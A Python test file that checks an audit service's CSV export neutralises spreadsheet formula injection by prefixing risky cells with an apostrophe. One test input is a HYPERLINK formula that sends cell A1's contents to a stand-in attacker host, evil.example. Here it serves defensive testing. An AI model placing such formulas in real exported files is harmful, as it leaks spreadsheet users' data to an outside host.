"""CSV for spreadsheets: no cell is run as a formula, whatever dimension it is of, and nothing else is changed."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from service.audit import formats
from service.audit.dimensions import DIMENSIONS, MEASURES
from service.audit.query import ReportQuery, parse
from service.audit.reports import Report

from .conftest import START, Deployment, download, use

# What a spreadsheet takes for the beginning of a formula; the last four are the wide forms of the first four.
RUN = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
TEXTS = [name for name in DIMENSIONS if not DIMENSIONS[name].over_time]


def read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def of(value: str) -> Report:
    """A report with one row."""
    return Report(ReportQuery(by=("origin",)), {}, [{"origin": value, **dict.fromkeys(MEASURES, 7)}], {})


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"])))
@example('=HYPERLINK("https://evil.example?"&A1,"x")')
@example("")
@example("'=1")
@example('a";=1+1;"\r\n=2,3')
def test_any_text_comes_back_as_it_was_or_with_one_apostrophe_before_it(value: str) -> None:
    """Cells that a spreadsheet would run as a formula are neutralised."""
    (row,) = read(formats.as_csv(of(value)))
    assert row["origin"] == (f"'{value}" if value.startswith(tuple(RUN)) else value)
    assert [row[name] for name in MEASURES] == ["7"] * len(MEASURES)


@pytest.mark.parametrize("name", TEXTS)
def test_every_dimension_is_neutralised(deployment: Deployment, name: str) -> None:
    values = [f"{first}1+1" for first in RUN]
    of_logos = name in ("origin", "logo", "variant")
    facts = [{name: value} for value in values]
    deployment.record([use(START, START, **fact) if of_logos else download(START, **fact) for fact in facts])
    deployment.sealer.seal()
    rows = read(formats.as_csv(deployment.reports.run(parse([("by", name)]))))
    assert {row[name] for row in rows} == {f"'{value}" for value in values}
